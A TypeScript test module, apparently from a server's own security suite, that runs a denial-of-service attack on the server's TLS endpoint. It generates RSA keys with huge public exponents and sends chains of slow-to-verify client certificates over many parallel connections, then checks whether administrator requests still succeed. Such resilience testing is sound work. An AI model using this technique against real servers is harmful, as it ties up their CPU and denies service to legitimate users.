/**
 * Certificates whose signatures take long to check: OpenSSL checks all that a client sends, whoever has signed them, in one
 * turn of the event loop. The public exponent of their key is as long as its modulus.
 */
import { createPrivateKey, createPublicKey, generatePrimeSync } from 'node:crypto';
import { connect as connectTcp, type Socket } from 'node:net';
import { connect, createSecureContext, type SecureContext } from 'node:tls';
import { keyId, makeCertificate } from '../../../src/pki/certificate.ts';
import { oid, sequence, set, utf8String } from '../../../src/pki/der-writer.ts';
import { publicDer } from '../../../src/pki/key-pair.ts';
import { pem } from '../../../src/pki/pem.ts';
import { type Attack, codesText } from '../attack.ts';
import type { AttackedServer } from '../attacked-server.ts';

const primeBits = 1_024;
/** An address that is not the neighbour's. */
const localAddress = '127.0.0.9';
/** Connections of one address that may be answered meanwhile: after each that is costly, the address waits. */
const answeredMax = 4;
const dayMs = 86_400_000;

function inverse(number: bigint, modulus: bigint): bigint {
  let [high, low, before, now] = [modulus, number % modulus, 0n, 1n];
  while (low > 0n) {
    const times = high / low;
    [high, low] = [low, high - times * low];
    [before, now] = [now, before - times * now];
  }
  return ((before % modulus) + modulus) % modulus;
}

/** A key that signs fast, and whose signatures take long to check. */
function costlyKey() {
  const prime = (): bigint => generatePrimeSync(primeBits, { bigint: true });
  for (;;) {
    const [p, q, d] = [prime(), prime(), 65_537n];
    const order = (p - 1n) * (q - 1n);
    const e = inverse(d, order);
    if ((e * d) % order !== 1n || p === q) continue;
    const parts = { n: p * q, e, d, p, q, dp: d % (p - 1n), dq: d % (q - 1n), qi: inverse(q, p) };
    const text = (value: bigint): string => {
      const hex = value.toString(16);
      return Buffer.from(hex.padStart(hex.length + (hex.length % 2), '0'), 'hex').toString('base64url');
    };
    const jwk = Object.fromEntries(Object.entries(parts).map(([name, value]) => [name, text(value)]));
    return createPrivateKey({ key: { kty: 'RSA', ...jwk }, format: 'jwk' });
  }
}

/** Certificates that sign each other, one after the other. */
function chain(count: number): SecureContext {
  const key = costlyKey();
  const publicKey = publicDer(createPublicKey(key));
  const nameOf = (i: number): Buffer => sequence(set(sequence(oid('2.5.4.3'), utf8String(`costly-${i}`))));
  const certificates = Array.from({ length: count }, (_, i) => {
    const plan = {
      issuer: nameOf(Math.min(i + 1, count - 1)),
      subject: nameOf(i),
      publicKey,
      notBeforeMs: Date.now() - dayMs,
      notAfterMs: Date.now() + dayMs,
      usages: ['cert sign'],
      isAuthority: true,
      issuerKeyId: keyId(publicKey),
    };
    return pem('CERTIFICATE', makeCertificate(plan, key));
  });
  const ownKey = key.export({ type: 'pkcs8', format: 'pem' });
  return createSecureContext({ cert: certificates.join(''), key: ownKey });
}

export const attack: Attack = {
  name: 'costly certificates',
  run: async (server: AttackedServer, isShort) => {
    const secureContext = chain(isShort ? 10 : 40);
    const count = isShort ? 8 : 40;
    const { hostname, port } = new URL(server.secureUrl);
    let answered = 0;
    const sockets = Array.from({ length: count }, (): Socket => {
      const local = hostname.startsWith('127.') ? { localAddress } : {};
      const raw = connectTcp({ host: hostname, port: Number(port), ...local }).on('error', () => undefined);
      const socket = connect({ socket: raw, secureContext, rejectUnauthorized: false });
      return socket
        .on('error', () => undefined)
        .once('data', () => answered++)
        .once('secureConnect', () => socket.write('GET /version HTTP/1.1\r\nHost: localhost\r\n\r\n'));
    });
    const codes: number[] = [];
    for (let i = 0; i < 20; i++) codes.push((await server.askAnew('admin', '/version')).status);
    for (const socket of sockets) socket.destroy();
    const gotIn = codes.filter((code) => code !== 200).map((code) => `the administrator got ${code}`);
    if (answered > answeredMax) gotIn.push(`one address had ${answered} costly handshakes at once`);
    return { gotIn, says: `${answered} of ${count} connections answered, ${codesText(codes)}` };
  },
};
